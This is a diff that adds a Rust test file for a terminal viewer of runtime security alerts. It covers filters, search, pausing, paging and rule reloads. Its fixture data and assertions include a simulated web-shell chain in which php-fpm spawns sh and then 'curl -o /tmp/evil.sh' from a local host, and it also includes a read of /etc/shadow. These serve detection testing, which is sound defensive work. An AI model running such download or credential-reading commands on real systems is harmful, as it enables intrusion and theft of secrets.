@@ -1,0 +1,263 @@
+//! What keys, alerts, answers and pulses do.
+
+use super::*;
+
+#[test]
+fn enter_shows_the_line_of_ancestors_and_the_full_command() {
+    let mut stage = Stage::new(120, 40, told());
+    stage.keys("g j Enter");
+    for text in [
+        "1 systemd splash",
+        "1190 php-fpm8.2",
+        "2117 sh -c curl -o",
+        "4012 curl -o /tmp/evil.sh",
+        "rules/eyas.yaml:41",
+    ] {
+        let all = stage.state.detail.as_ref().unwrap().lines(200, &stage.ctx.zone);
+        let all: String =
+            all.iter().flat_map(|l| l.parts.iter().map(|(_, t)| t.as_str()).chain(["\n"])).collect();
+        assert!(all.contains(text), "{text}:\n{all}");
+    }
+    stage.shows("4012 curl -o /tmp/evil.sh");
+    stage.keys("Esc");
+    assert!(stage.state.detail.is_none());
+}
+
+#[test]
+fn the_list_shows_full_command_lines_at_120x40() {
+    let stage = Stage::new(120, 40, told());
+    stage.shows("curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh   ← sh ← php-fpm8.2");
+    stage.shows("c /etc/shadow");
+}
+
+#[test]
+fn include_and_exclude_take_the_value_under_the_cursor() {
+    let mut stage = Stage::new(120, 40, told());
+    stage.keys("g j i");
+    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "proc.name = curl");
+    assert_eq!(stage.state.rows.len(), 2);
+    stage.keys("l x");
+    assert_eq!(
+        &*stage.state.filter.as_ref().unwrap().text,
+        "proc.name = curl and container.id != 3f2a9c81d07e"
+    );
+    stage.shows("No alert meets the filter.");
+    stage.keys("Esc");
+    assert!(stage.state.filter.is_none());
+    assert_eq!(stage.state.rows.len(), 11);
+    stage.keys("h h h h h i");
+    stage.shows("move the cursor");
+    // In the details, a field's line.
+    stage.keys("g Enter ] ] ] ] j j i");
+    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "evt.type = execve");
+}
+
+#[test]
+fn a_value_with_blanks_and_quotes_finds_its_alert_again() {
+    let own = Process { comm: (*b"a \"b\", (c)\\").into(), container: "host".into(), ..Process::default() };
+    let world = World {
+        alerts: vec![Arc::new(made(1, Priority::Error, "R", "root", own, "m".into())), Arc::new(alert(2))],
+        ..World::default()
+    };
+    let mut stage = Stage::new(80, 24, world);
+    stage.keys("g i");
+    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, r#"proc.name = "a \"b\", (c)\\""#);
+    assert_eq!(stage.state.rows.len(), 1);
+}
+
+#[test]
+fn new_alerts_keep_a_follower_at_the_newest_and_leave_others_in_peace() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.send(Msg::Alerts(vec![Arc::new(alert(100))]));
+    assert_eq!(stage.selected(), alert(100).id);
+    stage.keys("k k");
+    let chosen = stage.selected();
+    stage.send(Msg::Alerts(vec![Arc::new(alert(101)), Arc::new(alert(102))]));
+    assert_eq!(stage.selected(), chosen);
+    stage.shows("2 new");
+    stage.keys("G");
+    assert_eq!(stage.selected(), alert(102).id);
+}
+
+#[test]
+fn pause_holds_the_screen_and_counts() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.keys("p");
+    let before: String = stage.screen().lines().skip(1).collect();
+    stage.send(Msg::Alerts((100..112).map(|n| Arc::new(alert(n))).collect()));
+    let screen = stage.screen();
+    assert!(screen.contains("12 new held"), "{screen}");
+    assert!(screen.contains("PAUSED"));
+    assert_eq!(before, screen.lines().skip(1).collect::<String>(), "nothing but the count moves");
+    stage.keys("p");
+    assert_eq!(stage.state.rows.len(), 23);
+    assert_eq!(stage.selected(), alert(111).id);
+}
+
+#[test]
+fn a_filter_is_checked_while_it_is_typed_and_its_mistakes_are_marked() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.keys("f 'proc.nam = curl'");
+    stage.shows("^^^^^^^^");
+    stage.shows("there is no field `proc.nam`");
+    stage.keys("Enter");
+    assert!(stage.state.filter.is_none(), "a wrong filter is not applied");
+    stage.keys("Home");
+    for _ in 0..8 {
+        stage.keys("Right");
+    }
+    stage.keys("Tab");
+    stage.shows("2 alerts meet it");
+    stage.keys("Enter");
+    assert_eq!(stage.state.rows.len(), 2);
+    stage.shows("2 matches stored");
+}
+
+#[test]
+fn enter_before_the_answer_applies_when_it_comes() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.silent = true;
+    stage.keys("f 'proc.name = sh' Enter");
+    assert!(stage.state.filter.is_none());
+    let asked = std::mem::take(&mut stage.asked);
+    stage.silent = false;
+    // Stale answers change nothing, whatever they say.
+    let last = asked.last().unwrap().clone();
+    for ask in &asked[..asked.len() - 1] {
+        stage.send(Msg::Reply(ask.ticket, Reply::Filter { text: "x".into(), result: Ok(7) }));
+    }
+    assert!(stage.state.filter.is_none());
+    stage.send(Msg::Reply(last.ticket, stage.world.answer(&last.question)));
+    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "proc.name = sh");
+}
+
+#[test]
+fn under_a_filter_new_alerts_come_from_the_store() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.keys("f 'proc.name = bash' Enter");
+    assert_eq!(stage.state.rows.len(), 1);
+    let new = Arc::new(alert(100));
+    let other = Arc::new(world::shell(101, Priority::Error, "R", "dash"));
+    stage.world.alerts.extend([new.clone(), other.clone()]);
+    stage.send(Msg::Alerts(vec![new.clone(), other]));
+    assert_eq!(stage.state.rows.len(), 1);
+    stage.tick(100);
+    assert_eq!(stage.state.rows.len(), 2);
+    assert_eq!(stage.selected(), new.id);
+}
+
+#[test]
+fn what_the_lane_left_out_is_read_from_the_store() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.world.alerts.push(Arc::new(alert(100)));
+    stage.send(Msg::Pulse(Arc::new(pulse(12))));
+    assert_eq!(stage.state.rows.len(), 11, "it may still be on its way");
+    stage.send(Msg::Pulse(Arc::new(pulse(12))));
+    assert_eq!(stage.state.rows.len(), 12);
+}
+
+#[test]
+fn a_burst_larger_than_a_page_is_read_whole_and_once() {
+    let mut stage = Stage::new(80, 24, World::default());
+    let burst: Vec<Arc<Alert>> = (0..1_700)
+        .map(|n| {
+            let mut a = alert(1);
+            a.id = AlertId::new(a.time, n);
+            Arc::new(a)
+        })
+        .collect();
+    stage.world.alerts = burst;
+    stage.keys("f 'proc.name = bash' Enter");
+    stage.send(Msg::Alerts(stage.world.alerts.clone()));
+    for _ in 0..3 {
+        stage.tick(100);
+    }
+    assert_eq!(stage.state.rows.len(), 1_700);
+    assert!(stage.state.pending.page.is_none(), "and then it is quiet");
+}
+
+#[test]
+fn older_alerts_come_page_by_page() {
+    let world = World { alerts: (0..1_200).map(|n| Arc::new(alert(n))).collect(), ..World::default() };
+    let mut stage = Stage::new(80, 24, world);
+    assert_eq!(stage.state.rows.len(), 500);
+    stage.keys("g");
+    assert_eq!(stage.state.rows.len(), 1_000);
+    stage.keys("g");
+    assert_eq!((stage.state.rows.len(), stage.state.rows.older), (1_200, false));
+    stage.keys("g");
+    assert_eq!(stage.selected(), alert(0).id);
+}
+
+#[test]
+fn search_goes_from_match_to_match() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.keys("g / 'curl' Enter");
+    let first = stage.selected();
+    assert_eq!(first, incident()[1].id);
+    stage.keys("n");
+    assert_eq!(stage.selected(), incident()[8].id);
+    stage.keys("n");
+    assert_eq!(stage.selected(), first);
+    stage.shows("Went on from the top.");
+    stage.keys("N");
+    assert_eq!(stage.selected(), incident()[8].id);
+    stage.keys("Esc");
+    assert!(stage.state.search.is_none());
+}
+
+#[test]
+fn urgent_alerts_can_be_gone_through() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.keys("g e e");
+    assert_eq!(stage.selected(), incident()[4].id);
+    stage.keys("E");
+    assert_eq!(stage.selected(), incident()[3].id);
+}
+
+#[test]
+fn the_palette_runs_what_has_no_key() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.keys(": 'theme light' Enter");
+    assert_eq!(stage.ctx.themes[stage.state.theme].name(), "light");
+    stage.keys(": 'debug panic' Enter");
+    assert_eq!(stage.out, [Effect::Panic]);
+}
+
+#[test]
+fn leaving() {
+    let mut stage = Stage::new(80, 24, told());
+    stage.keys("Enter q");
+    assert!(stage.out.is_empty() && stage.state.detail.is_none(), "q climbs out first");
+    stage.keys("q");
+    assert_eq!(stage.out, [Effect::Quit]);
+    stage.keys("f ctrl-c");
+    stage.send(Msg::Signal);
+    assert_eq!(stage.out, [Effect::Quit, Effect::Quit, Effect::Stop]);
+}
+
+#[test]
+fn a_store_that_fails_says_so_and_stops_nothing() {
+    let mut stage = Stage::new(80, 24, World { broken: true, ..told() });
+    stage.shows("the disk is full");
+    stage.send(Msg::Alerts(incident()));
+    stage.keys("Enter");
+    let all = stage.state.detail.as_ref().unwrap().lines(78, &stage.ctx.zone);
+    assert!(all.iter().any(|l| l.parts.iter().any(|(_, t)| t.contains("could not say: the disk is full"))));
+    stage.keys("Esc f 'proc.name = x'");
+    assert!(
+        matches!(stage.state.layers.last(), Some(Layer::Filter(f)) if matches!(f.verdict, Verdict::Failed(_)))
+    );
+}
+
+#[test]
+fn a_reload_is_told_once() {
+    let mut stage = Stage::new(80, 24, told());
+    let reload = Reload { at: WallTime(1), text: String::new(), errors: 0, warnings: 0, applied: true };
+    let new = Arc::new(Pulse { reload: Some(reload), rules: 15, ..pulse(11) });
+    stage.send(Msg::Pulse(new.clone()));
+    stage.shows("Rules loaded: 15 in force.");
+    stage.tick(10_000);
+    stage.send(Msg::Pulse(new));
+    assert!(stage.state.notice.is_none());
+}
